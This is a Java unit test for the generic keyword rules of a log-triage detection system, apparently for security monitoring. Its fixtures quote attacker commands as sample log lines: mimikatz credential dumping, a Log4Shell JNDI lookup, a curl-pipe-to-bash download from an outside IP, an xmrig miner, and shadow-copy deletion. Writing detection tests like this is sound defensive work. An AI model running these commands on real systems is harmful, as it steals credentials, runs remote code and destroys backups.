package io.cybershield.shield.gateway.triage.rules;

import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Set;

import static io.cybershield.shield.gateway.triage.logs.LogSource.AUTO;
import static io.cybershield.shield.gateway.triage.rules.ShippedRules.fired;
import static io.cybershield.shield.gateway.triage.rules.ShippedRules.firedAlone;
import static org.assertj.core.api.Assertions.assertThat;

/** Keyword rules that work on lines of any (or no recognisable) format. */
class GenericRulesTest {

  @Test
  void attackerStringsInUnknownFormats() {
    assertThat(firedAlone(AUTO, "EDR alert host=ws-9 cmd=\"mimikatz.exe privilege::debug sekurlsa::logonpasswords\""))
        .contains("shield-gen-cred-001");
    assertThat(firedAlone(AUTO, "app=payments msg=\"user-agent ${jndi:ldap://198.51.100.5:1389/a} rejected\""))
        .contains("shield-gen-initial-001");
    assertThat(firedAlone(AUTO, "2026-12-01 10:00:00 proc: sh -c 'curl -s http://198.51.100.9/i.sh | bash'"))
        .contains("shield-gen-exec-002");
    assertThat(firedAlone(AUTO, "process started: ./xmrig -o stratum+tcp://pool.example.net:3333 --donate-level 1"))
        .contains("shield-gen-impact-001");
    assertThat(firedAlone(AUTO, "[EDR] C:\\Windows\\system32\\cmd.exe /c vssadmin.exe Delete Shadows /All /Quiet"))
        .contains("shield-gen-impact-002");
  }

  @Test
  void ordinaryApplicationLinesAreNotFlagged() {
    List<Set<String>> benign = fired(AUTO,
        "2026-12-01 10:00:00 INFO  OrderService - order 4711 shipped",
        "level=info msg=\"backup completed\" tool=restic snapshot=8f3a2c",
        "GET /api/health 200 3ms",
        "2026-12-01T10:00:00Z user alice changed her password");
    assertThat(benign).allMatch(Set::isEmpty);
  }
}
